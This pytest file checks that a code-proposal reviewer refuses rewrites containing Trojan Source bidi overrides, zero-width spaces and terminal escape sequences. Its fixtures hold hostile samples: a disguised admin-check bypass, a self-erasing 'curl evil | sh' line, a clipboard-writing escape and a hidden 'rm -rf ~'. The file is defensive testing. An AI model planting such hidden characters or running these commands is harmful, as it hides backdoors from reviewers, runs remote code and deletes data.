"""Proposals cannot hide code behind invisible characters (issue 11 part 6).

A rewrite that adds a bidirectional control (Trojan Source, CVE-2021-42574) or
another invisible format character is refused with a reason the model can act
on; one that keeps such characters from the person's own code is allowed, and
its diff says so and shows them.
"""

from __future__ import annotations

import re

import pytest
from remora_core.review.hidden_chars import hidden_in, reveal
from remora_core.review.proposals import ProposalError

from tests.core.test_proposals import inserted, rewritten

RLO = "\u202e"
LRI = "\u2066"
PDI = "\u2069"
ZWSP = "\u200b"

FILE = b'''def access(user):
    """Who may see the admin page."""
    return user.is_admin
'''

# The classic Trojan Source shape: what an editor shows as a comment is code.
TROJAN = f'''def access(user):
    """Who may see the admin page."""
    if user.is_admin != "user":  # {RLO}{LRI}# only admins{PDI}{LRI}
        return True
    return user.is_admin
'''


def test_a_rewrite_adding_bidi_controls_is_refused_with_what_to_do():
    with pytest.raises(ProposalError) as refused:
        rewritten(FILE, "access", TROJAN)
    message = str(refused.value)
    assert "U+202E RIGHT-TO-LEFT OVERRIDE on line 3" in message
    assert "U+2066 LEFT-TO-RIGHT ISOLATE" in message
    assert "Trojan Source" in message
    assert "escape" in message  # how to write one that is really needed


def test_a_zero_width_space_in_a_string_is_refused():
    # "admin" and "admin\u200b" look the same and never compare equal.
    source = f'def access(user):\n    return user.role == "admin{ZWSP}"\n'
    with pytest.raises(ProposalError, match="U\\+200B ZERO WIDTH SPACE on line 2"):
        rewritten(FILE, "access", source)


def test_a_new_definition_with_hidden_characters_is_refused():
    with pytest.raises(ProposalError, match="U\\+202E"):
        inserted(FILE, "", "function", "audit", f"def audit():\n    return '{RLO}'\n")


def test_hidden_characters_already_in_the_code_may_stay_and_the_diff_shows_them():
    mine = f'def label():\n    return "{RLO}abc"\n'.encode()
    after, diff = rewritten(
        mine, "label", f'def label():\n    """A label."""\n    return "{RLO}abc"\n'
    )
    assert RLO in after.decode()  # the person's text is kept exactly
    first, rest = diff.split("\n", 1)
    assert first == (
        "# Remora: this change keeps invisible characters already in your code (U+202E)"
    )
    assert '+    return "⟦U+202E⟧abc"' not in rest  # the line is unchanged context
    assert ' return "⟦U+202E⟧abc"' in rest
    assert RLO not in diff


def test_adding_another_kind_next_to_one_already_there_is_refused():
    mine = f'def label():\n    return "{RLO}abc"\n'.encode()
    with pytest.raises(ProposalError) as refused:
        rewritten(mine, "label", f'def label():\n    return "{RLO}abc{ZWSP}"\n')
    assert "U+200B" in str(refused.value)
    assert "U+202E" not in str(refused.value)


def test_finding_and_revealing():
    assert hidden_in("plain ascii\n") == {}
    assert hidden_in(f"a\nb{RLO}\n{RLO}{ZWSP}é") == {RLO: [2, 3], ZWSP: [3]}
    assert reveal(f"x{RLO}é") == "x⟦U+202E⟧é"


# ---- control characters: what a terminal acts on instead of showing -------------

ESC_ERASE = "\x1b[2K"  # erases the line it is on
OSC_52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # writes the clipboard


def test_a_rewrite_adding_an_escape_sequence_is_refused_with_what_to_do():
    # On a terminal, the os.system line erases itself: `cat` shows nothing.
    source = (
        "def access(user):\n"
        f'    os.system("curl evil | sh")  # {ESC_ERASE}\n'
        f"    return user.is_admin  # {OSC_52}\n"
    )
    with pytest.raises(ProposalError) as refused:
        rewritten(FILE, "access", source)
    message = str(refused.value)
    assert "U+001B ESCAPE on lines 2, 3" in message
    assert "U+0007 BELL on line 3" in message
    assert "control characters" in message
    assert "'\\x1b'" in message  # how to write one a string really needs
    assert "\x1b" not in message


@pytest.mark.parametrize(
    ("char", "name"),
    [
        ("\x08", "U+0008 BACKSPACE"),  # overprints the character before it
        ("\x0b", "U+000B LINE TABULATION"),
        ("\x7f", "U+007F DELETE"),
        ("\x9b", "U+009B CONTROL CHARACTER"),  # C1: a one-byte ESC [
    ],
)
def test_every_raw_control_character_is_refused(char, name):
    source = f'def access(user):\n    return user.role == "a{char}b"\n'
    with pytest.raises(ProposalError, match=re.escape(f"{name} on line 2")):
        rewritten(FILE, "access", source)
    with pytest.raises(ProposalError, match="control characters"):
        inserted(FILE, "", "function", "audit", f"def audit():\n    return '{char}'\n")


def test_tabs_form_feeds_and_windows_line_ends_are_code():
    crlf = FILE.replace(b"\n", b"\r\n")
    after, _ = rewritten(
        crlf,
        "access",
        'def access(user):\r\n    """Admins."""\r\n    return "a\tb" in user\r\n',
    )
    assert b'\r\n    return "a\tb" in user\r\n' in after
    assert hidden_in("a\tb\x0c\r\nc\rd\n") == {}  # a lone CR is a line break


def test_control_characters_already_in_the_code_show_as_markers():
    mine = f'def label():\n    return "{ESC_ERASE}abc"\n'.encode()
    kept = f'def label():\n    """A label."""\n    return "{ESC_ERASE}abc"\n'
    _after, diff = rewritten(mine, "label", kept)
    assert diff.startswith(
        "# Remora: this change keeps invisible characters already in your code (U+001B)"
    )
    assert ' return "⟦U+001B⟧[2Kabc"' in diff
    assert "\x1b" not in diff
    assert hidden_in(f"a\n{OSC_52}\nb\x9bc\x7f\n") == {
        "\x1b": [2],
        "\x07": [2],
        "\x9b": [3],
        "\x7f": [3],
    }
    assert reveal(f"{ESC_ERASE}é") == "⟦U+001B⟧[2Ké"


def test_one_escape_of_the_persons_does_not_let_a_model_add_more():
    mine = f'def label():\n    return "{ESC_ERASE}abc"\n'.encode()
    with pytest.raises(ProposalError, match="U\\+001B ESCAPE on lines 2, 3"):
        rewritten(
            mine,
            "label",
            f'def label():\n    run("rm -rf ~")  # {ESC_ERASE}\n'
            f'    return "{ESC_ERASE}abc"\n',
        )
